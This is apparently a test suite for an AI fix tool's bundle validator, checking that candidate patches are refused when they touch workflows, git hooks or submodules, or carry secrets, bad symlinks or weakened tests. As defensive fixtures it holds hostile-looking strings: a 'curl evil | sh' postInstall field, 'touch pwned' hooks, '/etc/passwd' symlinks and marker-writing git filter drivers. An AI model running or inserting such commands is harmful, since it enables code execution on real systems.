/**
 * Bundles (src/bundle/): real fix runs write them, a separate checkout reads, validates and
 * selects them. Real git, real test commands, the scripted model; no doubles.
 */
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { openPatchGit } from '../../src/adapters/patch.js';
import { openGit } from '../../src/adapters/git.js';
import type { PatchGit } from '../../src/ports/patch.js';
import { checkBundle, publishProtections, readBundles, pathProblem, symlinkEscapes, type AcceptedBundle, type BundleExpectation } from '../../src/bundle/read.js';
import { selectBundle, renderCandidates } from '../../src/bundle/select.js';
import { DEFAULT_LIMITS, EvidenceSchema, MANIFEST_FILE, PATCH_FILE, type Evidence } from '../../src/bundle/schema.js';
import { ADDER } from '../../test-support/run-main.js';
import { cleanupFixtures, cloneShallow, commitAs, gitIn, HUMAN, makeRepo, tempDir, type RepoFixture } from '../../test-support/git-fixture.js';
import { writeBundle } from '../../src/bundle/write.js';
import { preparePublication, renderPublication } from '../../src/bundle/publish.js';
import { INTEGRITY_CATEGORIES } from '../../src/guard/test-integrity.js';
import { Redactor } from '../../src/redact.js';
import { ADDER_TASK, BUNDLE_API_KEY, bundleSettings, editManifest, editScript, proposeCandidate, replacePatch } from '../../test-support/bundle-world.js';

let repo: RepoFixture;
let out: string;
let publish: string;
let patches: PatchGit & { dispose(): Promise<void> };
let expectation: BundleExpectation;
const statuses: Record<string, string> = {};

const LARGE = ['// add: the sum of two numbers.', ...Array.from({ length: 24 }, (_, i) => `// note ${i + 1}: addition is commutative and associative.`), 'return a + b;'].join('\n  ');

beforeAll(async () => {
  repo = makeRepo(ADDER);
  out = tempDir('agent-fix-bundles-');
  // three candidates: one fails, one passes with a large change, one with a small change
  const runs: [string, string][] = [
    ['1', 'return a * b;'],
    ['2', LARGE],
    ['3', 'return a + b;'],
  ];
  for (const [id, edit] of runs) {
    const r = await proposeCandidate({ remoteUrl: repo.remoteUrl, script: editScript(edit, `candidate ${id}`), candidate: id, outDir: out });
    statuses[id] = r.status;
  }
  publish = cloneShallow(repo.remoteUrl).dir;
  patches = await openPatchGit(publish);
  expectation = {
    taskKey: 'issue-7',
    baseSha: repo.sha,
    protectedPaths: await publishProtections(bundleSettings(), publish),
    maxChangedFiles: 10,
    maxChangedLines: 200,
  };
}, 120_000);

afterAll(async () => {
  await patches?.dispose();
  cleanupFixtures();
});

const show = (tree: string, file: string) => gitIn(publish)('cat-file', 'blob', `${tree}:${file}`);

test('three real candidates: the failing one and the large one lose, the small verified one wins', async () => {
  expect(statuses).toEqual({ '1': 'not-fixed', '2': 'fixed', '3': 'fixed' });
  expect(readdirSync(out).sort()).toEqual(['candidate-1', 'candidate-2', 'candidate-3']);
  const checked = await readBundles(out, expectation, patches);
  expect(checked.map((c) => c.kind)).toEqual(['accepted', 'accepted', 'accepted']);
  const s = selectBundle(checked);
  expect(s.winner?.manifest.candidate.id).toBe('3');
  expect(s.ranked.map((b) => b.manifest.candidate.id)).toEqual(['3', '2', '1']);
  expect(show(s.winner!.tree!, 'src/add.js')).toContain('return a + b;');
  expect(s.winner!.size).toEqual({ files: 1, lines: 2 });
  const lines = Object.fromEntries(s.lines.map((l) => [l.candidate, l.text]));
  expect(lines['3']).toMatch(/candidate `3` \(`scripted`, temperature 0\.6\): verified, 1 file \+1\/-1, .* — \*\*published\*\*/);
  expect(lines['2']).toMatch(/verified, 1 file \+26\/-1.* — lost: larger change \(27 vs 2 changed lines\)/);
  expect(lines['1']).toMatch(/not verified \(tests-still-failing\), no change.* — lost: not verified/);
  const md = renderCandidates(s);
  expect(md).toContain('candidate `3` is published');
  expect(md.split('\n').filter((l) => l.startsWith('- '))).toHaveLength(3);
  // the publish checkout is untouched: nothing staged, nothing written, HEAD where it was
  expect(gitIn(publish)('status', '--porcelain')).toBe('');
  expect(gitIn(publish)('rev-parse', 'HEAD')).toBe(repo.sha);
});

test('a bundle carries the evidence, the report and the sampling, and no secret', async () => {
  const dir = path.join(out, 'candidate-3');
  const text = readFileSync(path.join(dir, MANIFEST_FILE), 'utf8');
  expect(text).not.toContain(BUNDLE_API_KEY);
  const m = JSON.parse(text);
  expect(m).toMatchObject({ kind: 'agent-fix-bundle', version: 2, task: { key: 'issue-7' }, baseSha: repo.sha, candidate: { id: '3', temperature: 0.6 } });
  expect(typeof m.candidate.seed).toBe('number');
  expect(m.settings).toMatchObject({ model: 'scripted', testCommand: 'node test.js', maxChangedLines: 200 });
  expect(Object.keys(m.settings)).not.toContain('apiKey');
  expect(m.settings.baseUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/v1$/);
  expect(m.evidence.baseline.succeeded).toBe(false);
  expect(m.evidence.final.succeeded).toBe(true);
  expect(m.evidence.attempts).toHaveLength(1);
  expect(m.evidence.usage.requests).toBe(2);
  expect(m.evidence.status).toBe('fixed');
  expect(m.reportMarkdown).toContain('### agent-fix: Fixed');
  const patch = readFileSync(path.join(dir, PATCH_FILE), 'utf8');
  expect(patch).toMatch(/^diff --git a\/src\/add\.js b\/src\/add\.js\nindex [0-9a-f]{40}\.\.[0-9a-f]{40} 100644/);
  // the failing candidate's bundle has its report and no change
  const failed = JSON.parse(readFileSync(path.join(out, 'candidate-1', MANIFEST_FILE), 'utf8'));
  expect(failed.evidence.status).toBe('not-fixed');
  expect(failed.patch.bytes).toBe(0);
});

test('binary files travel in the patch (git diff --binary) and apply byte for byte', async () => {
  const bin = Buffer.from([0, 1, 2, 255, 254, 10, 13, 0, 0x89, 0x50, 0x4e, 0x47]);
  const scratch = cloneShallow(repo.remoteUrl).dir;
  writeFileSync(path.join(scratch, 'logo.bin'), bin);
  writeFileSync(path.join(scratch, 'src/add.js'), 'export function add(a, b) {\n  return a + b;\n}\n');
  const git = await openGit(scratch);
  const tree = await git.snapshot();
  const own = await openPatchGit(scratch);
  const patch = await own.binaryPatch(`${repo.sha}^{tree}`, tree);
  await own.dispose();
  expect(patch.toString('latin1')).toContain('GIT binary patch');
  const dir = copyBundle('candidate-3');
  replacePatch(dir, patch);
  const r = await checkBundle(dir, expectation, patches);
  expect(r.kind).toBe('accepted');
  const got = gitIn(publish)('rev-parse', `${(r as AcceptedBundle).tree}:logo.bin`);
  expect(got).toBe(gitIn(scratch)('hash-object', 'logo.bin'));
});

function copyBundle(name: string): string {
  const dir = path.join(tempDir('agent-fix-tampered-'), name);
  cpSync(path.join(out, name), dir, { recursive: true });
  return dir;
}

const NEW_FILE = (file: string, content = 'x', mode = '100644') =>
  `diff --git a/${file} b/${file}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${file}\n@@ -0,0 +1 @@\n+${content}\n\\ No newline at end of file\n`;

interface Tamper {
  name: string;
  tamper: (dir: string) => void;
  reason: RegExp;
  expect?: Partial<BundleExpectation>;
}

const tampered: Tamper[] = [
  { name: 'a workflow file (protected path)', tamper: (d) => replacePatch(d, NEW_FILE('.github/workflows/evil.yml', 'on: push')), reason: /protected path `.github\/workflows\/evil.yml` \(`.github\/workflows\/\*\*`\)/ },
  { name: 'a workflow file in other case', tamper: (d) => replacePatch(d, NEW_FILE('.GitHub/Workflows/evil.yml', 'on: push')), reason: /protected path `.GitHub\/Workflows\/evil.yml`/ },
  { name: 'a path with markdown, HTML and a mention', tamper: (d) => replacePatch(d, NEW_FILE('.github/workflows/@octo-org/team <b>x</b> a`b.yml')), reason: /^it touches the protected path `\.github\/workflows\/@octo-org\/team <b>x<\/b> a b\.yml` \(`\.github\/workflows\/\*\*`\)$/ },
  { name: 'a path the policy forbids', tamper: (d) => replacePatch(d, NEW_FILE('secrets/keys.txt')), reason: /protected path `secrets\/keys.txt` \(`secrets\/\*\*`\)/, expect: { protectedPaths: ['secrets/**'] } },
  { name: 'a path outside the allow-list', tamper: (d) => replacePatch(d, NEW_FILE('docs/x.md')), reason: /protected path `docs\/x.md` \(`!src\/\*\*`\)/, expect: { protectedPaths: ['!src/**'] } },
  { name: 'a path escape (..)', tamper: (d) => replacePatch(d, NEW_FILE('../escape.txt')), reason: /it names a path that escapes the repository/ },
  { name: 'a path escape inside a directory', tamper: (d) => replacePatch(d, NEW_FILE('src/../../escape.txt')), reason: /it names a path that escapes the repository/ },
  { name: 'git internals', tamper: (d) => replacePatch(d, NEW_FILE('.git/hooks/pre-commit', 'touch pwned')), reason: /it touches git internals: `.git\/hooks\/pre-commit`/ },
  { name: 'a symlink pointing out of the repository', tamper: (d) => replacePatch(d, NEW_FILE('link', '/etc/passwd', '120000')), reason: /makes `link` a symbolic link \(to `\/etc\/passwd`, outside the repository\)/ },
  { name: 'a relative symlink climbing out', tamper: (d) => replacePatch(d, NEW_FILE('src/link', '../../outside', '120000')), reason: /symbolic link \(to `..\/..\/outside`, outside the repository\)/ },
  { name: 'a symlink inside the repository (all new symlinks are refused)', tamper: (d) => replacePatch(d, NEW_FILE('src/alias.js', 'add.js', '120000')), reason: /symbolic link \(to `add.js`, inside the repository\)/ },
  {
    name: 'a submodule (gitlink)',
    tamper: (d) => replacePatch(d, `diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..${'a'.repeat(40)}\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit ${'a'.repeat(40)}\n`),
    reason: /it changes a submodule \(`vendor\/lib`\)/,
  },
  { name: 'a .gitmodules file', tamper: (d) => replacePatch(d, NEW_FILE('.gitmodules', '[submodule "x"]')), reason: /submodule \(`.gitmodules`\)/ },
  { name: 'a wrong base sha', tamper: (d) => editManifest(d, (m) => (m.baseSha = 'b'.repeat(40))), reason: /its base bbbbbbbbbbbb is not the commit this job checked out/ },
  { name: 'another task', tamper: (d) => editManifest(d, (m) => (m.task.key = 'issue-8')), reason: /it is for task `issue-8`, not `issue-7`/ },
  { name: 'an oversize patch', tamper: (d) => replacePatch(d, Buffer.alloc(DEFAULT_LIMITS.patchBytes + 1, 0x61)), reason: /the patch is 8388609 bytes, over the limit of 8388608 bytes/ },
  { name: 'an oversize manifest', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), ' '.repeat(2048)), reason: /the manifest is 2048 bytes, over the limit of 1024 bytes/, expect: { limits: { ...DEFAULT_LIMITS, manifestBytes: 1024 } } },
  { name: 'malformed JSON', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), readFileSync(path.join(d, MANIFEST_FILE), 'utf8').slice(0, 500)), reason: /manifest.json is not valid JSON/ },
  { name: 'not a bundle at all', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), '{"hello": "world"}'), reason: /not an agent-fix bundle/ },
  { name: 'a newer bundle version', tamper: (d) => editManifest(d, (m) => (m.version = 3)), reason: /bundle version `3` is not supported: this agent-fix reads version 2; use the same agent-fix version in the propose and publish jobs/ },
  { name: 'an older bundle version (the loop\'s own proof)', tamper: (d) => editManifest(d, (m) => (m.version = 1)), reason: /bundle version `1` is not supported: this agent-fix reads version 2/ },
  { name: 'a schema-invalid manifest', tamper: (d) => editManifest(d, (m) => (m.evidence.final.counts.failed = 'many')), reason: /does not match the bundle schema: `evidence\.final\.counts\.failed: / },
  { name: 'an unknown manifest field', tamper: (d) => editManifest(d, (m) => (m.postInstall = 'curl evil | sh')), reason: /does not match the bundle schema: .*postInstall/ },
  { name: 'a patch that does not apply', tamper: (d) => replacePatch(d, 'diff --git a/src/add.js b/src/add.js\n--- a/src/add.js\n+++ b/src/add.js\n@@ -1,3 +1,3 @@\n export function add(a, b) {\n-  return a / b;\n+  return a + b;\n }\n'), reason: /does not apply cleanly to [0-9a-f]{12}: .*patch does not apply/ },
  { name: 'a swapped patch file (sha256 differs)', tamper: (d) => writeFileSync(path.join(d, PATCH_FILE), NEW_FILE('other.txt')), reason: /change.patch is not the patch the manifest names/ },
  { name: 'a verified claim without a change', tamper: (d) => replacePatch(d, ''), reason: /claims a verified fix but carries no change/ },
  { name: 'status and reason that contradict', tamper: (d) => editManifest(d, (m) => (m.evidence.reason = 'tests-still-failing')), reason: /status "fixed" contradicts reason "tests-still-failing"/ },
  { name: 'too many changed lines', tamper: () => undefined, reason: /it changes 2 lines, more than max-changed-lines \(1\)/, expect: { maxChangedLines: 1 } },
  { name: 'too many changed files', tamper: (d) => replacePatch(d, NEW_FILE('a.txt') + NEW_FILE('b.txt')), reason: /it changes 2 files, more than max-changed-files \(1\)/, expect: { maxChangedFiles: 1 } },
  { name: 'a weakened test (test-integrity guard)', tamper: (d) => replacePatch(d, NEW_FILE('test/add.test.js', "test.skip('add adds', () => {})")), reason: /the test-integrity guard refuses it: \[skip\]/ },
  { name: 'an extra file in the bundle', tamper: (d) => writeFileSync(path.join(d, 'postinstall.sh'), 'touch pwned'), reason: /unexpected file\(s\) in the bundle: `postinstall.sh`/ },
  { name: 'a manifest that is a symlink', tamper: (d) => { rmSync(path.join(d, MANIFEST_FILE)); symlinkSync('/etc/hostname', path.join(d, MANIFEST_FILE)); }, reason: /manifest.json is a symbolic link; not followed/ },
  { name: 'a missing patch', tamper: (d) => rmSync(path.join(d, PATCH_FILE)), reason: /change.patch is missing/ },
];

test.each(tampered)('a bundle with $name is refused with a clear reason', async ({ tamper, reason, expect: over }) => {
  const dir = copyBundle('candidate-3');
  tamper(dir);
  const r = await checkBundle(dir, { ...expectation, ...over }, patches);
  expect(r.kind).toBe('refused');
  expect(r.kind === 'refused' && r.reason).toMatch(reason);
  // and through the directory reader and the selection: refused, listed, never chosen
  const s = selectBundle(await readBundles(path.dirname(dir), { ...expectation, ...over }, patches));
  expect(s.winner).toBeNull();
  expect(s.lines).toHaveLength(1);
  expect(s.lines[0].role).toBe('refused');
  expect(s.lines[0].text).toMatch(/ — refused: /);
  expect(gitIn(publish)('status', '--porcelain')).toBe('');
});

test('a refused bundle never wins over a worse valid one; duplicate candidate ids are refused', async () => {
  const root = tempDir('agent-fix-mixed-');
  cpSync(path.join(out, 'candidate-2'), path.join(root, 'candidate-2'), { recursive: true });
  cpSync(path.join(out, 'candidate-3'), path.join(root, 'candidate-3'), { recursive: true });
  replacePatch(path.join(root, 'candidate-3'), NEW_FILE('.github/workflows/x.yml'));
  cpSync(path.join(out, 'candidate-2'), path.join(root, 'again', 'candidate-2'), { recursive: true });
  const s = selectBundle(await readBundles(root, expectation, patches));
  expect(s.winner?.manifest.candidate.id).toBe('2');
  expect(s.refused.map((r) => r.reason)).toEqual([
    expect.stringMatching(/another bundle already has candidate id "2"/),
    expect.stringMatching(/protected path/),
  ]);
});

test('artifacts downloaded without merge-multiple (one directory per artifact) are found too', async () => {
  const root = tempDir('agent-fix-nested-');
  for (const id of ['1', '3']) cpSync(path.join(out, `candidate-${id}`), path.join(root, `bundle-${id}`, `candidate-${id}`), { recursive: true });
  const s = selectBundle(await readBundles(root, expectation, patches));
  expect(s.ranked.map((b) => b.manifest.candidate.id)).toEqual(['3', '1']);
});

test('no verified candidate: no winner, the best attempt is named', async () => {
  const root = tempDir('agent-fix-none-');
  cpSync(path.join(out, 'candidate-1'), path.join(root, 'candidate-1'), { recursive: true });
  const s = selectBundle(await readBundles(root, expectation, patches));
  expect(s.winner).toBeNull();
  expect(s.best?.manifest.candidate.id).toBe('1');
  expect(renderCandidates(s)).toMatch(/none is verified, so nothing is published/);
  expect(s.lines[0].text).toMatch(/best attempt \(not published\)/);
});

test('a missing bundles directory is a clear error', async () => {
  await expect(readBundles(path.join(out, 'nope'), expectation, patches)).rejects.toThrow(/does not exist: download the propose jobs' artifacts there first/);
});

test('a bundle that would leave a marker if anything of the repository ran: validation and tree building run nothing', async () => {
  const markers = tempDir('agent-fix-markers-');
  const marker = (name: string) => path.join(markers, name);
  // The publish checkout at its worst: hooks, filter and diff drivers, an fsmonitor, all writing markers.
  const hostile = cloneShallow(repo.remoteUrl).dir;
  const g = gitIn(hostile);
  const hooks = path.join(hostile, '.git', 'hooks');
  mkdirSync(hooks, { recursive: true });
  for (const hook of ['post-index-change', 'pre-commit', 'post-checkout', 'pre-push', 'post-commit', 'reference-transaction', 'pre-applypatch', 'post-applypatch', 'applypatch-msg']) {
    writeFileSync(path.join(hooks, hook), `#!/bin/sh\ntouch '${marker(`hook-${hook}`)}'\n`, { mode: 0o755 });
  }
  const script = path.join(markers, 'fsmonitor.sh');
  writeFileSync(script, `#!/bin/sh\ntouch '${marker('fsmonitor')}'\n`, { mode: 0o755 });
  g('config', 'filter.evil.clean', `touch '${marker('filter-clean')}'; cat`);
  g('config', 'filter.evil.smudge', `touch '${marker('filter-smudge')}'; cat`);
  g('config', 'filter.evil.required', 'true');
  g('config', 'diff.evil.command', `touch '${marker('diff-command')}'`);
  g('config', 'diff.evil.textconv', `touch '${marker('textconv')}'; cat`);
  g('config', 'core.fsmonitor', script);
  g('config', 'core.hooksPath', hooks);

  // The bundle: the test script and the test both leave a marker when run, and every file goes through the evil drivers.
  const scratch = cloneShallow(repo.remoteUrl).dir;
  writeFileSync(path.join(scratch, 'src/add.js'), 'export function add(a, b) {\n  return a + b;\n}\n');
  writeFileSync(path.join(scratch, 'test.js'), `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker('test-ran'))}, 'x');\n${ADDER['test.js']}`);
  writeFileSync(path.join(scratch, 'package.json'), JSON.stringify({ name: 'adder', type: 'module', scripts: { test: `touch '${marker('npm-test')}' && node test.js`, prepare: `touch '${marker('npm-prepare')}'` } }));
  writeFileSync(path.join(scratch, '.gitattributes'), '* filter=evil diff=evil\n');
  const scratchGit = await openGit(scratch);
  const tree = await scratchGit.snapshot();
  const own = await openPatchGit(scratch);
  const patch = await own.binaryPatch(`${repo.sha}^{tree}`, tree);
  await own.dispose();
  const root = tempDir('agent-fix-marker-bundles-');
  const dir = path.join(root, 'candidate-3');
  cpSync(path.join(out, 'candidate-3'), dir, { recursive: true });
  replacePatch(dir, patch);

  const hostilePatches = await openPatchGit(hostile);
  try {
    // by default the guard refuses the edited test script...
    const guarded = selectBundle(await readBundles(root, { ...expectation, protectedPaths: await publishProtections(bundleSettings(), hostile) }, hostilePatches));
    expect(guarded.winner).toBeNull();
    expect(guarded.refused.map((r) => r.reason)).toEqual([expect.stringMatching(/^the test-integrity guard refuses it: \[config\]/)]);
    // ...allowed here, so that the tree is built and used
    const checked = await readBundles(root, { ...expectation, protectedPaths: await publishProtections(bundleSettings(), hostile), integrityAllowed: [...INTEGRITY_CATEGORIES] }, hostilePatches);
    const s = selectBundle(checked);
    expect(s.lines.map((l) => l.text)).toEqual([expect.stringContaining('— **published**')]);
    expect(s.winner?.manifest.candidate.id).toBe('3');
    expect(readdirSync(markers).filter((f) => f !== 'fsmonitor.sh')).toEqual([]);
    const treeOut = s.winner!.tree!;
    // what publish does next with the tree, through the ordinary git adapter: diff, changes, commit
    const git = await openGit(hostile);
    const diff = await git.diff(`${repo.sha}^{tree}`, treeOut);
    expect(diff).toContain("writeFileSync(");
    expect((await git.changes(`${repo.sha}^{tree}`, treeOut)).map((c) => c.path).sort()).toEqual(['.gitattributes', 'package.json', 'src/add.js', 'test.js']);
    const sha = await git.commitTree(treeOut, repo.sha, 'agent-fix: test', { name: HUMAN.name, email: HUMAN.email });
    expect(gitIn(hostile)('cat-file', '-t', sha)).toBe('commit');
    expect(gitIn(hostile)('cat-file', 'blob', `${treeOut}:.gitattributes`)).toBe('* filter=evil diff=evil');
  } finally {
    await hostilePatches.dispose();
  }
  expect(readdirSync(markers).filter((f) => f !== 'fsmonitor.sh')).toEqual([]);
  // the working tree and the real index are as they were
  expect(readFileSync(path.join(hostile, 'test.js'), 'utf8')).toBe(ADDER['test.js']);
  expect(existsSync(path.join(hostile, '.gitattributes'))).toBe(false);
  // (the marker check above is meaningful: the same hostile config does fire when git is used normally)
  commitAs(hostile, HUMAN, { 'x.txt': 'x' }, 'normal use');
  expect(readdirSync(markers).filter((f) => f !== 'fsmonitor.sh').length).toBeGreaterThan(0);
});

test('path and symlink rules', () => {
  expect(pathProblem('src/a.js', [])).toBeNull();
  expect(pathProblem('/etc/passwd', [])).toMatch(/absolute path/);
  expect(pathProblem('C:\\x', [])).toMatch(/absolute path/);
  expect(pathProblem('a/../../b', [])).toMatch(/escapes/);
  expect(pathProblem('a\\..\\..\\b', [])).toMatch(/escapes/);
  expect(pathProblem('a//b', [])).toMatch(/not in plain form/);
  expect(pathProblem('sub/.GIT/config', [])).toMatch(/git internals/);
  expect(pathProblem('.git./config', [])).toMatch(/git internals/);
  expect(pathProblem('GIT~1/config', [])).toMatch(/git internals/);
  expect(pathProblem('.github/workflows/ci.yml', ['.github/workflows/**'])).toMatch(/protected/);
  expect(symlinkEscapes('a/b', '../c')).toBe(false);
  expect(symlinkEscapes('a/b', '../../c')).toBe(true);
  expect(symlinkEscapes('b', 'C:\\x')).toBe(true);
  expect(symlinkEscapes('a/b', 'c/../../..')).toBe(true);
});

test('a change carrying a secret, even inside a binary file (base85 in the patch), is not bundled', async () => {
  const secret = 'ghs_bundleSecretToken0123456789';
  const scratch = cloneShallow(repo.remoteUrl).dir;
  writeFileSync(path.join(scratch, 'src/add.js'), 'export function add(a, b) {\n  return a + b;\n}\n');
  writeFileSync(path.join(scratch, 'blob.bin'), Buffer.concat([Buffer.from([0, 0, 1, 2]), Buffer.from(secret)]));
  const git = await openGit(scratch);
  const tree = await git.snapshot();
  const own = await openPatchGit(scratch);
  const m = JSON.parse(readFileSync(path.join(out, 'candidate-3', MANIFEST_FILE), 'utf8'));
  const outDir = tempDir('agent-fix-secret-');
  try {
    const patch = await own.binaryPatch(`${repo.sha}^{tree}`, tree);
    expect(patch.toString('latin1')).not.toContain(secret); // base85: invisible to a text scan
    const written = await writeBundle({
      fix: { report: { ...m.evidence, task: ADDER_TASK, diff: '' }, tree, baseSha: repo.sha },
      candidate: { id: '9' },
      settings: bundleSettings(),
      redactor: new Redactor([secret]),
      patches: own,
      outDir,
    });
    expect(written.manifest.evidence).toMatchObject({ status: 'not-fixed', reason: 'secret-in-change' });
    expect(written.manifest.patch.bytes).toBe(0);
    expect(readFileSync(path.join(written.dir, PATCH_FILE)).length).toBe(0);
    const r = await checkBundle(written.dir, expectation, patches);
    expect(r.kind === 'accepted' && r.tree).toBeNull();
  } finally {
    await own.dispose();
  }
});

test('a bad candidate id is refused by the writer', async () => {
  const m = JSON.parse(readFileSync(path.join(out, 'candidate-3', MANIFEST_FILE), 'utf8'));
  await expect(
    writeBundle({ fix: { report: { ...m.evidence, task: ADDER_TASK, diff: '' }, tree: null, baseSha: repo.sha }, candidate: { id: '../x' }, settings: bundleSettings(), redactor: new Redactor([]), patches, outDir: tempDir() }),
  ).rejects.toThrow(/The candidate id "..\/x" must be 1-64 letters/);
});

describe('preparePublication: the publish side before delivery', () => {
  const input = async (bundlesDir: string) => ({
    bundlesDir,
    task: ADDER_TASK,
    baseSha: repo.sha,
    settings: bundleSettings(),
    git: await openGit(publish),
    patches,
    redactor: new Redactor([]),
  });

  test('the winner: its evidence, publish\'s own task, the change measured here, every candidate listed', async () => {
    const pub = await preparePublication(await input(out));
    expect(pub.kind).toBe('publish');
    if (pub.kind !== 'publish') return;
    expect(pub.report.task).toBe(ADDER_TASK);
    expect(pub.report.status).toBe('fixed');
    expect(pub.report.changes.map((c) => `${c.path} +${c.additions}/-${c.deletions}`)).toEqual(['src/add.js +1/-1']);
    expect(pub.report.diff).toContain('+  return a + b;');
    expect(pub.report.detail).toMatch(/Candidate `3` of 3; its evidence comes from its propose job/);
    expect(gitIn(publish)('cat-file', 'blob', `${pub.tree}:src/add.js`)).toContain('return a + b;');
    const md = renderPublication(pub);
    expect(md).toMatch(/^### agent-fix: Fixed/);
    expect(md).toContain('candidate `3` is published');
    expect(md).toContain('lost: larger change (27 vs 2 changed lines)');
    expect(md).toContain('lost: not verified');
  });

  test('none verified: the best attempt\'s report, nothing to push', async () => {
    const root = tempDir('agent-fix-pub-none-');
    cpSync(path.join(out, 'candidate-1'), path.join(root, 'candidate-1'), { recursive: true });
    const pub = await preparePublication(await input(root));
    expect(pub.kind).toBe('none-verified');
    expect(pub.kind === 'none-verified' && pub.report.detail).toMatch(/^No candidate produced a verified fix, so nothing was published. The best attempt was candidate `1`: /);
    expect(renderPublication(pub)).toMatch(/^### agent-fix: Not fixed/);
  });

  test('no bundle, or only refused ones: a clear error naming each reason', async () => {
    const empty = await preparePublication(await input(tempDir('agent-fix-pub-empty-')));
    expect(empty.kind === 'no-valid-bundle' && empty.detail).toMatch(/No bundle was found under .*merge-multiple: true/);
    const root = tempDir('agent-fix-pub-bad-');
    cpSync(path.join(out, 'candidate-3'), path.join(root, 'candidate-3'), { recursive: true });
    editManifest(path.join(root, 'candidate-3'), (m) => (m.baseSha = 'c'.repeat(40)));
    const bad = await preparePublication(await input(root));
    expect(bad.kind === 'no-valid-bundle' && bad.detail).toMatch(/None of the 1 bundle\(s\) could be used/);
    expect(renderPublication(bad)).toMatch(/candidate `3` — refused: its base cccccccccccc is not the commit this job checked out/);
  });
});

test('a huge suite: the writer keeps the manifest within the limit by listing only the tests that did not pass', async () => {
  const m = JSON.parse(readFileSync(path.join(out, 'candidate-1', MANIFEST_FILE), 'utf8'));
  const tests = Array.from({ length: 3000 }, (_, i) => ({ id: `suite > a passing test with a long enough name number ${i}`, status: 'passed' }));
  tests.push({ id: 'suite > add adds', status: 'failed' });
  const baseline = { ...m.evidence.baseline, tests, counts: { passed: 3000, failed: 1, skipped: 0 } };
  const report = { ...m.evidence, baseline, final: baseline, task: ADDER_TASK, diff: '' };
  const limits = { ...DEFAULT_LIMITS, manifestBytes: 100_000 };
  const written = await writeBundle({ fix: { report, tree: null, baseSha: repo.sha }, candidate: { id: '7' }, settings: bundleSettings(), redactor: new Redactor([]), patches, outDir: tempDir(), limits });
  expect(readFileSync(path.join(written.dir, MANIFEST_FILE)).length).toBeLessThanOrEqual(100_000);
  expect(written.manifest.evidence.baseline?.tests.map((t) => t.id)).toEqual(['suite > add adds']);
  expect(written.manifest.evidence.baseline?.counts).toEqual({ passed: 3000, failed: 1, skipped: 0 });
  expect((await checkBundle(written.dir, { ...expectation, limits }, patches)).kind).toBe('accepted');
  const failing = tests.map((t) => ({ ...t, status: 'failed' }));
  const hopeless = { ...report, baseline: { ...baseline, tests: failing }, final: { ...baseline, tests: failing } };
  await expect(writeBundle({ fix: { report: hopeless, tree: null, baseSha: repo.sha }, candidate: { id: '8' }, settings: bundleSettings(), redactor: new Redactor([]), patches, outDir: tempDir(), limits })).rejects.toThrow(
    /even with only the failing tests listed, over the 100000-byte limit publish accepts/,
  );
});

test('the one proof travels in the bundle: the report\'s and the accepted attempt\'s, its run on the original code cut to the tests that did not pass like every run', async () => {
  const m = JSON.parse(readFileSync(path.join(out, 'candidate-3', MANIFEST_FILE), 'utf8'));
  const tests = Array.from({ length: 3000 }, (_, i) => ({ id: `suite > a passing test with a long enough name number ${i}`, status: 'passed' }));
  tests.push({ id: 'suite > add adds', status: 'failed' });
  const withoutFix = { ...m.evidence.baseline, tests, counts: { passed: 3000, failed: 1, skipped: 0 } };
  const proof = { status: 'proven', detail: '1 test(s) in test.js fail before the fix and pass after it.', testFiles: ['test.js'], tests: [{ id: 'suite > add adds', before: 'failed', after: 'passed' }], withoutFix };
  const attempts = m.evidence.attempts.map((a: object) => ({ ...a, proof }));
  const report = { ...m.evidence, attempts, tests: { ...m.evidence.tests, proof }, task: ADDER_TASK, diff: '' };
  const limits = { ...DEFAULT_LIMITS, manifestBytes: 100_000 };
  // the verified candidate's tree, as publish builds it from its bundle
  const accepted = await checkBundle(path.join(out, 'candidate-3'), expectation, patches);
  if (accepted.kind !== 'accepted' || !accepted.tree) throw new Error(`candidate 3 was not accepted: ${JSON.stringify(accepted)}`);
  const written = await writeBundle({ fix: { report, tree: accepted.tree, baseSha: repo.sha }, candidate: { id: '9' }, settings: bundleSettings(), redactor: new Redactor([]), patches, outDir: tempDir(), limits });
  expect((await checkBundle(written.dir, { ...expectation, limits }, patches)).kind).toBe('accepted');
  const evidence = written.manifest.evidence;
  expect(evidence).not.toHaveProperty('proof');
  const shrunk = { ...proof, withoutFix: { ...withoutFix, tests: [{ id: 'suite > add adds', status: 'failed' }] } };
  expect(evidence.tests?.proof).toEqual(shrunk);
  expect(evidence.attempts[0].proof).toEqual(shrunk);
  // read back as publish reads it
  const read = JSON.parse(readFileSync(path.join(written.dir, MANIFEST_FILE), 'utf8'));
  expect(read.evidence.tests.proof).toEqual(shrunk);
});

test('the evidence carries every field of the report: gate evidence, proof, original-test gate, comment-only hunks, test links, diagnostics, a kept attempt survive the bundle', () => {
  const run = {
    command: 'npm test',
    exitCode: 1,
    timedOut: false,
    durationMs: 120,
    succeeded: false,
    tests: [{ id: 'test/a.test.js > a > adds', status: 'failed' as const, message: 'expected 3', file: 'test/a.test.js', frame: 'src/a.js:2:9', details: 'expected 3\n  got 4' }],
    counts: { passed: 3, failed: 1, skipped: 0 },
    parsedFrom: 'jest' as const,
    outputTail: 'FAIL test/a.test.js',
    executed: 'npm test -- --json --outputFile=/tmp/r.json',
    structured: true,
    loadErrors: [],
    links: { changed: ['src/a.js'], files: { 'test/old.test.js': { runner: 'not-selected' as const, graph: 'not-connected' as const, detail: 'no import of a changed file' } } },
    consistency: 'consistent' as const,
    scope: 'full' as const,
    flaky: ['test/f.test.js > sometimes'],
  };
  const verdict = {
    ok: true,
    newlyFailing: [],
    nowPassing: ['test/a.test.js > a > adds'],
    stillFailing: ['test/old.test.js > old > breaks'],
    preexisting: ['test/old.test.js > old > breaks'],
    tolerance: [{ id: 'test/old.test.js > old > breaks', file: 'test/old.test.js', excused: true, evidence: 'not selected by jest --findRelatedTests; the import graph does not reach src/a.js; same failure as before' }],
    summary: '1 now passing; 1 failing before any edit, unrelated',
  };
  // The one proof: on the accepted attempt and as the report's, with the run on the original code plus only the test edits.
  const proof = {
